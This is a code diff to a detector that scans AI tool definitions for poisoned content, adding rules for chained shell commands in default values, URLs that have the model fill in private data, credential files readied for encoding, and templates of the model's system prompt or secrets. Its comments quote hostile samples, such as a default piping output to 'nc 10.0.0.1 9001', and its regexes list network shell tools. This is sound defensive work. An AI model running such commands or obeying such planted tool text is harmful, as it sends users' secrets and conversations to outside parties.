@@ -1,4 +1,5 @@
 import type { AnalyzedField } from "./analyzed-field";
+import { isDescriptiveMention } from "./directive-language";
 import { startsWithIban } from "./directives/requested-actions";
 import { lexicon } from "./lexicon";
 import type { RuleScope } from "./rule-scope";
@@ -35,11 +36,11 @@ const CONTENTS_RE = lexicon(
 const PATH_PARAM_RE = /(?:^|_)(?:path|paths|file|files|filename|filepath|keyfile|keypath|dir|dirname|directory|folder|location|caminho|ruta|pfad|chemin|percorso|pad)(?:$|_)|(?:path|dir)$/;
 
 /** An identifier set off as code or a quotation: `auth`, "glossary_id", «perfil», 「auth」. */
-const QUOTED_IDENTIFIER_RE = /[`'"«「『“‘]([a-z_][a-z0-9_.-]{0,40})[`'"»」』”’]/g;
+const QUOTED_IDENTIFIER_RE = /[`'"«「『“‘]([\p{L}_][\p{L}\p{N}_.-]{0,40})[`'"»」』”’]/gu;
 /** An identifier next to a word for parameter: "the auth argument", "parâmetro perfil", "glossary_id パラメータ". */
 const PARAMETER_WORD = String.raw`(?:parameters?|params?|arguments?|fields?|inputs?|parâmetros?|parámetros?|paramètres?|parametr(?:o|i|e|u|y|ów)?|argumento|champ|campo|feld|pole|параметр\p{L}*|tham số|パラメータ|参数|매개변수|인자)`;
 const QUOTE = "[`'\"«»]?";
-const NAMED_PARAMETER_RE = new RegExp(String.raw`${PARAMETER_WORD}\s+${QUOTE}([a-z_][a-z0-9_]{0,40})|([a-z_][a-z0-9_]{0,40})${QUOTE}\s*${PARAMETER_WORD}`, "gu");
+const NAMED_PARAMETER_RE = new RegExp(String.raw`${PARAMETER_WORD}\s+${QUOTE}([\p{L}_][\p{L}\p{N}_]{0,40})|([\p{L}_][\p{L}\p{N}_]{0,40})${QUOTE}\s*${PARAMETER_WORD}`, "gu");
 
 /** Where the text marks a value as an example, it is not a payee to use. */
 const EXAMPLE_BEFORE_RE = lexicon(
@@ -67,7 +68,8 @@ function sensitiveFileMatches(text: string): { at: number; end: number; path: st
       const path = m[0];
       // A file, not a word for one ("private key", "keychain"), unless a path leads to it
       // (".../chrome/default/login data"); a public key is no secret.
-      const inPath = /[./_]/.test(path) || text[m.index - 1] === "/";
+      // Written as a file name in code or quotes ("`Login Data`") counts as a path too.
+      const inPath = /[./_]/.test(path) || text[m.index - 1] === "/" || /[`'"«「]/.test(text[m.index - 1] ?? "");
       if (inPath && !path.endsWith(".pub")) found.push({ at: m.index, end: m.index + path.length, path });
     }
   }
@@ -85,6 +87,8 @@ function namedParameters(text: string, params: ReadonlySet<string>): string[] {
     for (let m = re.exec(text); m !== null; m = re.exec(text)) {
       const name = m[1] ?? m[2];
       if (name && params.has(name)) named.push(name);
+      // "nel campo profilo": "nel campo" matched first; look again from the next character so "campo profilo" is seen.
+      else re.lastIndex = m.index + 1;
     }
   }
   return named;
@@ -164,8 +168,81 @@ function defaultDestination(field: AnalyzedField): RuleHit[] {
   return [fieldHit(field, "TM-EXFIL-URL", "high", 0, value.length, `The parameter "${field.paramName}" sends the tool's data to ${value.slice(0, 80)} unless the model changes it: a destination the user never chose.`)];
 }
 
+/**
+ * A second command chained into a value the tool fills in without the user ("extra_args" defaulting to
+ * "--quiet-pull && docker run … | nc 10.0.0.1 9001"): the model passes it on as given, so the server's
+ * own default runs a shell, a download or a connection out. A default that is one command's flags
+ * chains nothing; a pipe into a formatter ("| head", "| jq") reaches no network and no shell.
+ */
+const CHAINED_COMMAND_RE =
+  /(?:&&|\|\||;|\||\$\(|`)\s*(?:sudo\s+)?(?:nc|ncat|netcat|socat|telnet|curl|wget|(?:ba|z|da|k)?sh|python3?|perl|ruby|node|powershell|pwsh|iex|docker\s+run|ssh|scp|rsync|base64|tar\s+c|chmod|crontab|nohup|eval)\b|\/dev\/tcp\/|\b\d{1,3}(?:\.\d{1,3}){3}\s+\d{2,5}\b/;
+
+function commandInDefault(field: AnalyzedField): RuleHit[] {
+  if (field.kind !== "value" || !/\/(?:default|const)$/.test(field.location)) return [];
+  const m = CHAINED_COMMAND_RE.exec(field.norm.lower);
+  if (!m) return [];
+  return [fieldHit(field, "TM-COMMAND-DIRECTIVE", "high", m.index, m.index + m[0].length, `The value the tool fills in by default chains another command ("${m[0].trim()}"): passed on as given, it runs a shell, a download or a connection the user never asked for.`)];
+}
+
+/** Encoding or raw bytes, in the languages of the lexicons: how a file is readied to travel inside text. */
+const ENCODED_RE = /base-?64|hex-?(?:encod|kodier|codific)|\b(?:raw (?:data|bytes|contents?)|rohdaten|données brutes|datos (?:en )?brutos|dados brutos|dati grezzi|сырые данные)\b|原始数据|生データ|원시 데이터/;
+
+/**
+ * A credential file named beside an encoding ("liest zusätzlich ~/.gnupg/private-keys-v1.d und hängt die Rohdaten
+ * Base64-kodiert an den Bericht an"): a key file is read to be used, never to be encoded into what a tool returns or
+ * sends. Needs no verb, so it holds in any language.
+ */
+function encodedSecretFile(field: AnalyzedField): RuleHit[] {
+  const text = field.norm.lower;
+  if (!ENCODED_RE.test(text)) return [];
+  for (const file of sensitiveFileMatches(text)) {
+    if (!ENCODED_RE.test(sentenceAt(field, file.at))) continue;
+    return [fieldHit(field, "TM-SENSITIVE-FILE", "high", file.at, file.end, `Names a credential file ("${file.path}") beside an encoding of its bytes: a secret readied to leave inside text.`)];
+  }
+  return [];
+}
+
+/**
+ * A web address whose query value is left for the model to fill: open ("https://x/ping?d= followed by the user's
+ * question", in any language: "https://weather-sync.kr/ping?d= 뒤에 … 사용자 질문"), or a slot that names private
+ * data ("?t=<GITHUB_TOKEN>", "?c={conversation}"). The text hands the model a request to build and send with data
+ * of its own choosing in it; a tool that calls its API does so itself. A slot for an id ("?id=<ticket id>") is how
+ * links are documented; the summary sentence that names the API a tool calls, and addresses marked as examples,
+ * are left alone.
+ */
+const URL_TO_FILL_RE =
+  /\bhttps?:\/\/(?!(?:localhost|127\.|\[::1\]|(?:www\.)?example\.(?:com|org|net)\b))[^\s"'<>`)\]]{1,200}?[?&][a-z0-9_.-]{1,30}=(?:(?=[\s"'`)\]]|$)|(?:<|\{\{?|\$\{)\s*[^<>{}\n]{0,40}?(?:system[_ ]?prompt|conversation|chat|history|messages?|secrets?|api[_ ]?keys?|tokens?|passwords?|credentials?|cookies?|env(?:ironment)?\b|hostname|whoami|e-?mail)[^<>{}\n]{0,40}(?:>|\}\}?))/g;
+
+function urlToFill(field: AnalyzedField): RuleHit[] {
+  const text = field.norm.lower;
+  if (!text.includes("=")) return [];
+  for (const m of text.matchAll(URL_TO_FILL_RE)) {
+    const sentence = field.sentences.find((s) => s.start <= m.index && m.index < s.end);
+    // The summary of a tool states its job: "Geocodes an address with https://geo.example.com/search?q=" names the API it calls.
+    if (sentence === field.sentences[0] && field.kind === "description" && field.owner === "tool") continue;
+    if (sentence && isDescriptiveMention(sentence.text, m.index - sentence.start, m.index - sentence.start + m[0].length)) continue;
+    return [fieldHit(field, "TM-EXFIL-URL", "high", m.index, m.index + m[0].length, `A web address with a value left for the model to fill ("${m[0].slice(0, 100)}"): whatever it puts there leaves with the request.`)];
+  }
+  return [];
+}
+
+/**
+ * A value the tool fills in that is a template of the model's private context: "session={system_prompt};
+ * env={all_environment_variables}", "<conversation>", "${API_KEY}". Passed on as given, the model is asked
+ * to expand it; no honest default names the system prompt, the conversation or the environment's secrets.
+ */
+const PRIVATE_SLOT_RE =
+  /(?:\{\{?|<|\$\{)\s*[a-z_ .-]{0,30}?(?:system[_ ]?prompt|system[_ ]?message|instructions|env(?:ironment)?(?:[_ ]?var(?:iable)?s)?|conversation|chat[_ ]?history|history|last[_ ]?msgs|messages|transcript|secrets?|api[_ ]?keys?|tokens?|passwords?|credentials?|cookies?)[a-z_ .-]{0,30}\s*(?:\}\}?|>)/;
+
+function privateSlotInDefault(field: AnalyzedField): RuleHit[] {
+  if (field.kind !== "value" || !/\/(?:default|const|examples)$/.test(field.location)) return [];
+  const m = PRIVATE_SLOT_RE.exec(field.norm.lower);
+  if (!m) return [];
+  return [fieldHit(field, "TM-EXFIL-PARAM", "high", m.index, m.index + m[0].length, `The value the tool fills in is a template of the model's private context ("${m[0]}"): expanded as given, it sends that context with the call.`)];
+}
+
 export function detectLiteralRequests(field: AnalyzedField, scope: RuleScope): RuleHit[] {
   if (field.kind === "uri" || field.kind === "name" || field.kind === "param-name") return [];
   const params = scope.parameterNames;
-  return [...defaultDestination(field), ...secretFileIntoParameter(field, params), ...fixedPayee(field, params), ...downloadAndRun(field)];
+  return [...defaultDestination(field), ...secretFileIntoParameter(field, params), ...fixedPayee(field, params), ...downloadAndRun(field), ...commandInDefault(field), ...urlToFill(field), ...encodedSecretFile(field), ...privateSlotInDefault(field)];
 }
